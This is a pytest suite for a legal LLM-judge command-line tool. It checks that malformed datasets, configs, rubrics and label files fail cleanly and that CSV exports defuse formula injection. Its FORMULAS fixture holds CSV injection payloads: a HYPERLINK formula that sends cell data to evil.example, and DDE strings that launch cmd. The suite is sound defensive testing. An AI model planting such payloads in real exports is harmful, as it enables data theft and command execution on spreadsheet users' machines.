"""Item 4: malformed inputs give a clear error and exit 2, no traceback and no partial results.

Each case writes one bad file and runs the real CLI (``click.testing.CliRunner`` on
``legal_judge.cli.cli``) against a store that already holds a finished run. Afterwards every table
of the store must be unchanged and no output file may exist. CSV exports must neutralise
spreadsheet formulas (OWASP CSV injection) in cells and in headers.
"""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from legal_judge.assets.catalogue import asset_root
from legal_judge.cli import cli
from legal_judge.dataset import sample_dataset_path

from .conftest import dump_store

ROW = {"id": "q1", "prompt": "Is a verbal lease valid?", "response": "Yes, under s.54(2) LPA 1925.",
       "jurisdiction": "England and Wales"}
DEEP = "[" * 100_000 + "]" * 100_000
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _jsonl(*rows: object) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def _toml(body: str) -> bytes:
    return ("name = 'bad'\n" + body).encode()


JUDGES = '[[judges]]\nspec = "simulated:demo-openai"\n[[judges]]\nspec = "simulated:demo-google"\n'
PAIR = json.loads(sample_dataset_path().parent.joinpath("debias_pairs.jsonl").read_text(
    encoding="utf-8").splitlines()[0])
STATS_ROW = {"dimension": "verbosity", "pair_id": "p1", "variant_a_input": "a", "variant_a_score": 3.0,
             "variant_b_input": "b", "variant_b_score": 2.0, "error": None}


@dataclass(frozen=True)
class Case:
    """One malformed file and the command that reads it."""

    name: str
    filename: str
    content: bytes | None  # None: write nothing (a missing file)
    args: Callable[[Path], list[str]]


def _run_dataset(path: Path) -> list[str]:
    return ["run", str(path), "--ensemble", "demo", "--quiet", "--out", str(path.parent / "out.csv")]


def _validate(path: Path) -> list[str]:
    return ["validate", str(path)]


def _ensemble(path: Path) -> list[str]:
    return ["run", str(sample_dataset_path()), "--ensemble", str(path), "--quiet",
            "--out", str(path.parent / "out.csv")]


def _rubric(path: Path) -> list[str]:  # the file sits in a copied asset tree (LEGAL_JUDGE_ASSETS)
    return ["run", str(sample_dataset_path()), "--ensemble", "demo", "--quiet",
            "--out", str(path.parent.parent / "out.csv")]


def _labels(path: Path) -> list[str]:
    return ["calibrate", "import", str(path)]


def _pairs(path: Path) -> list[str]:
    return ["debias", "compare", "--judge", "simulated:demo-openai", "--pairs", str(path),
            "--json", str(path.parent / "out.json")]


def _stats(path: Path) -> list[str]:
    return ["audit", "stats", str(path), "--out", str(path.parent / "out.json")]


CASES = [
    # datasets ----------------------------------------------------------------------------------
    Case("dataset-wrong-type-id", "d.jsonl", _jsonl({**ROW, "id": 5}), _run_dataset),
    Case("dataset-missing-prompt", "d.jsonl", _jsonl({k: v for k, v in ROW.items() if k != "prompt"}),
         _run_dataset),
    Case("dataset-unknown-field", "d.jsonl", _jsonl({**ROW, "score": 5}), _run_dataset),
    Case("dataset-signals-wrong-type", "d.jsonl", _jsonl({**ROW, "expected_signals": 7}),
         _run_dataset),
    Case("dataset-huge-field", "d.jsonl", _jsonl({**ROW, "response": "x" * 300_000}), _run_dataset),
    Case("dataset-non-utf8", "d.jsonl", _jsonl(ROW) + b'{"id": "q2", "prompt": "caf\xe9"}\n',
         _run_dataset),
    Case("dataset-nul-byte", "d.jsonl", _jsonl(ROW).replace(b"verbal", b"ver\x00bal"), _run_dataset),
    Case("dataset-deeply-nested", "d.jsonl",
         _jsonl(ROW) + b'{"id": "q2", "prompt": "p", "response": "r", "metadata": {"x": '
         + DEEP.encode() + b"}}\n", _run_dataset),
    Case("dataset-duplicate-ids", "d.jsonl", _jsonl(ROW, ROW), _run_dataset),
    Case("dataset-row-not-object", "d.jsonl", _jsonl(ROW, [1, 2]), _run_dataset),
    Case("dataset-invalid-json", "d.jsonl", _jsonl(ROW) + b'{"id": "q2", \n', _run_dataset),
    Case("dataset-empty", "d.jsonl", b"", _run_dataset),
    Case("dataset-missing-file", "absent.jsonl", None, _run_dataset),
    Case("dataset-is-a-directory", "somedir", b"<dir>", _run_dataset),
    Case("dataset-binary", "d.jsonl", bytes(range(256)) * 8, _validate),
    Case("dataset-json-not-array", "d.json", json.dumps(ROW).encode(), _validate),
    Case("dataset-csv-extra-cells", "d.csv", b"id,prompt,response\nq1,p,r,extra\n", _run_dataset),
    Case("dataset-csv-bad-metadata", "d.csv", b'id,prompt,response,metadata\nq1,p,r,"{bad"\n',
         _run_dataset),
    Case("dataset-csv-formula-id-dup", "d.csv",
         b'id,prompt,response\n"=HYPERLINK(""http://x"")",p,r\n"=HYPERLINK(""http://x"")",p,r\n',
         _run_dataset),
    # ensemble configs --------------------------------------------------------------------------
    Case("ensemble-toml-syntax", "e.toml", b"name = 'x\n[[judges]\n", _ensemble),
    Case("ensemble-unknown-key", "e.toml", _toml("colour = 'red'\n" + JUDGES), _ensemble),
    Case("ensemble-wrong-type", "e.toml", _toml("concurrency = 'lots'\n" + JUDGES), _ensemble),
    Case("ensemble-no-judges", "e.toml", _toml(""), _ensemble),
    Case("ensemble-judge-without-spec", "e.toml", _toml("[[judges]]\nweight = 1.0\n"), _ensemble),
    Case("ensemble-duplicate-judges", "e.toml",
         _toml('[[judges]]\nspec = "simulated:demo-openai"\n' * 2), _ensemble),
    Case("ensemble-quorum-too-high", "e.toml", _toml("quorum = 5\n" + JUDGES), _ensemble),
    Case("ensemble-negative-weight", "e.toml",
         _toml('[[judges]]\nspec = "simulated:demo-openai"\nweight = -1\n' + JUDGES), _ensemble),
    Case("ensemble-unknown-provider", "e.toml", _toml(JUDGES + '[[judges]]\nspec = "nosuch:x"\n'),
         _ensemble),
    Case("ensemble-bad-options", "e.toml",
         _toml(JUDGES + '[[judges]]\nspec = "simulated:fair"\noptions = {bogus = 1}\n'), _ensemble),
    Case("ensemble-non-utf8", "e.toml", b"name = 'caf\xe9'\n" + JUDGES.encode(), _ensemble),
    Case("ensemble-nul-byte", "e.toml", b"name = 'a\x00b'\n" + JUDGES.encode(), _ensemble),
    Case("ensemble-deeply-nested", "e.toml", _toml("x = " + DEEP + "\n" + JUDGES), _ensemble),
    # rubric and template files (in a copy of the asset tree) ---------------------------------
    Case("rubric-yaml-syntax", "rubrics/legal_soundness.v1.yaml", b"name: [unclosed\n", _rubric),
    Case("rubric-missing-scale", "rubrics/completeness.v1.yaml", b"DROP:scale", _rubric),
    Case("rubric-wrong-type", "rubrics/completeness.v1.yaml", b"SET:version=one", _rubric),
    Case("rubric-non-utf8", "rubrics/completeness.v1.yaml", b"APPEND:\n# caf\xe9\n", _rubric),
    Case("rubric-nul-byte", "rubrics/completeness.v1.yaml", b"APPEND:\n# a\x00b\n", _rubric),
    Case("rubric-deeply-nested", "rubrics/completeness.v1.yaml",
         b"APPEND:\nextra: " + DEEP.encode() + b"\n", _rubric),
    Case("rubric-unversioned-name", "rubrics/completeness.yaml", b"name: completeness\n", _rubric),
    Case("template-syntax", "prompts/judge_user.v1.j2", b"{% for x in %}\n", _rubric),
    # label files -------------------------------------------------------------------------------
    Case("labels-score-out-of-range", "l.csv",
         b"item_id,rubric,score,annotator,labeled_at\nQ,legal_soundness,9,ann,2026-01-02\n", _labels),
    Case("labels-score-wrong-type", "l.csv",
         b"item_id,rubric,score,annotator,labeled_at\nQ,legal_soundness,five,ann,2026-01-02\n",
         _labels),
    Case("labels-missing-annotator", "l.jsonl",
         _jsonl({"item_id": "Q", "rubric": "legal_soundness", "score": 3, "labeled_at": "2026-01-02"}),
         _labels),
    Case("labels-unknown-column", "l.csv", b"item_id,colour\nQ,red\n", _labels),
    Case("labels-non-utf8", "l.csv", b"item_id,rubric,score,annotator\nQ,legal_soundness,3,Ren\xe9\n",
         _labels),
    Case("labels-nul-byte", "l.csv",
         b"item_id,rubric,score,annotator,labeled_at\nQ,legal_soundness,3,a\x00b,2026-01-02\n", _labels),
    Case("labels-deeply-nested", "l.jsonl", DEEP.encode() + b"\n", _labels),
    Case("labels-bad-extension", "l.xlsx", b"PK\x03\x04", _labels),
    # pair files ----------------------------------------------------------------------------------
    Case("pairs-invalid-json", "p.jsonl", b"{not json\n", _pairs),
    Case("pairs-missing-field", "p.jsonl", _jsonl({k: v for k, v in PAIR.items() if k != "question"}),
         _pairs),
    Case("pairs-duplicate-ids", "p.jsonl", _jsonl(PAIR, PAIR), _pairs),
    Case("pairs-unknown-bias", "p.jsonl", _jsonl({**PAIR, "bias": "astrology"}), _pairs),
    Case("pairs-non-utf8", "p.jsonl", _jsonl(PAIR)[:-3] + b"\xff\"}\n", _pairs),
    Case("pairs-deeply-nested", "p.jsonl", DEEP.encode() + b"\n", _pairs),
    Case("stats-wrong-type", "s.jsonl", _jsonl({**STATS_ROW, "variant_a_score": "high"}), _stats),
    Case("stats-deeply-nested", "s.jsonl", DEEP.encode() + b"\n", _stats),
    Case("stats-nul-and-huge", "s.jsonl", b"\x00" * 1_000_000, _stats),
]


@pytest.fixture(scope="module")
def seeded_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store holding one finished demo run (so "unchanged" is about real rows)."""
    home = tmp_path_factory.mktemp("seeded") / "home"
    small = home.parent / "small.jsonl"
    small.write_text("".join(sample_dataset_path().read_text(encoding="utf-8").splitlines(True)[:4]),
                     encoding="utf-8")
    result = CliRunner().invoke(cli, ["run", str(small), "--ensemble", "demo", "--quiet",
                                      "--run-id", "seed-run"], env={"LEGAL_JUDGE_HOME": str(home)})
    assert result.exit_code == 0, result.output
    return home


def _edit_rubric(target: Path, content: bytes) -> None:
    import yaml

    text = target.read_bytes() if target.exists() else b""
    if content.startswith(b"APPEND:"):
        target.write_bytes(text + content.removeprefix(b"APPEND:"))
    elif content.startswith(b"DROP:"):
        data = yaml.safe_load(text)
        data.pop(content.removeprefix(b"DROP:").decode())
        target.write_text(yaml.safe_dump(data), encoding="utf-8")
    elif content.startswith(b"SET:"):
        key, _, value = content.removeprefix(b"SET:").decode().partition("=")
        data = yaml.safe_load(text)
        data[key] = value
        target.write_text(yaml.safe_dump(data), encoding="utf-8")
    else:
        target.write_bytes(content)


def _place(case: Case, tmp_path: Path, env: dict[str, str]) -> Path:
    if case.filename.startswith(("rubrics/", "prompts/")):
        root = tmp_path / "assets"
        for sub in ("rubrics", "prompts"):
            shutil.copytree(asset_root() / sub, root / sub)
        env["LEGAL_JUDGE_ASSETS"] = str(root)
        path = root / case.filename
        _edit_rubric(path, case.content or b"")
        return path
    path = tmp_path / case.filename
    if case.content == b"<dir>":
        path.mkdir()
    elif case.content is not None:
        path.write_bytes(case.content)
    return path


def _assert_clean_failure(args: list[str], env: dict[str, str], home: Path, outputs: list[Path]) -> str:
    before = dump_store(home / "store.sqlite3")
    result = CliRunner().invoke(cli, args, env=env)
    assert isinstance(result.exception, SystemExit), (
        f"crashed with {result.exception!r}\n{result.output[-2000:]}")
    assert result.exit_code == 2, result.output[-2000:]
    assert "error:" in result.output and "Traceback" not in result.output
    assert dump_store(home / "store.sqlite3") == before, "the store changed"
    for out in outputs:
        assert not out.exists(), f"partial output {out}"
    return result.output


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_malformed_input_fails_cleanly(case: Case, seeded_home: Path, tmp_path: Path) -> None:
    env = {"LEGAL_JUDGE_HOME": str(seeded_home)}
    path = _place(case, tmp_path, env)
    outputs = [tmp_path / "out.csv", tmp_path / "out.json"]
    text = _assert_clean_failure(case.args(path), env, seeded_home, outputs)
    assert path.name in text or "fix:" in text  # the message points at the file or the fix


def test_a_100_mb_dataset_fails_cleanly(seeded_home: Path, tmp_path: Path) -> None:
    path = tmp_path / "huge.jsonl"
    with path.open("wb") as fh:  # one row whose answer alone is 100 MB
        fh.write(b'{"id": "q1", "prompt": "p", "response": "')
        block = b"A" * (1 << 20)
        for _ in range(100):
            fh.write(block)
        fh.write(b'"}\n')
    env = {"LEGAL_JUDGE_HOME": str(seeded_home)}
    text = _assert_clean_failure(_run_dataset(path), env, seeded_home, [tmp_path / "out.csv"])
    assert "the limit is 200,000" in text


def test_a_reused_run_id_is_refused_without_touching_the_store(seeded_home: Path,
                                                                tmp_path: Path) -> None:
    env = {"LEGAL_JUDGE_HOME": str(seeded_home)}
    args = ["run", str(sample_dataset_path()), "--ensemble", "demo", "--quiet", "--run-id",
            "seed-run", "--out", str(tmp_path / "out.csv")]
    text = _assert_clean_failure(args, env, seeded_home, [tmp_path / "out.csv"])
    assert "--resume seed-run" in text


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _assert_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"live formula in CSV cell {cell!r}"


def test_csv_exports_neutralise_formula_injection(tmp_path: Path) -> None:
    home = tmp_path / "home"
    env = {"LEGAL_JUDGE_HOME": str(home)}
    bench = tmp_path / "bench.csv"
    with bench.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "prompt", "response", "jurisdiction"])
        for k, f in enumerate(FORMULAS):
            # An id may not hold a tab or a carriage return (refused on load, issue 20 item 16):
            # those two prefixes ride in the prompt and response cells only.
            w.writerow([f"{f.lstrip(chr(9) + chr(13))}{k}", f"{f} Is a verbal lease valid?",
                        f"{f} Yes.", "England and Wales"])
    ensemble = tmp_path / "e.toml"
    ensemble.write_text('name = "x"\nquorum = 2\n[[judges]]\nname = "=HYPERLINK(1)"\n'
                        'spec = "simulated:demo-openai"\n[[judges]]\nname = "@SUM(1)"\n'
                        'spec = "simulated:demo-google"\n', encoding="utf-8")
    out = tmp_path / "results.csv"
    result = CliRunner().invoke(cli, ["run", str(bench), "--ensemble", str(ensemble), "--quiet",
                                      "--run-id", "inj", "--out", str(out)], env=env)
    assert result.exit_code == 0, result.output
    rows = _cells(out)
    assert len(rows) == 1 + len(FORMULAS)
    _assert_neutral(rows)
    ids = {r[0] for r in rows[1:]}
    assert ids == {f"'{f.lstrip(chr(9) + chr(13))}{k}"  # kept, only defused
                   for k, f in enumerate(FORMULAS)}
    template = tmp_path / "template.csv"
    result = CliRunner().invoke(cli, ["calibrate", "sample", "inj", "--n", "6", "--out", str(template),
                                      "--no-langfuse-queue"], env=env)
    assert result.exit_code == 0, result.output
    rows = _cells(template)
    assert len(rows) > 1
    _assert_neutral(rows)
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
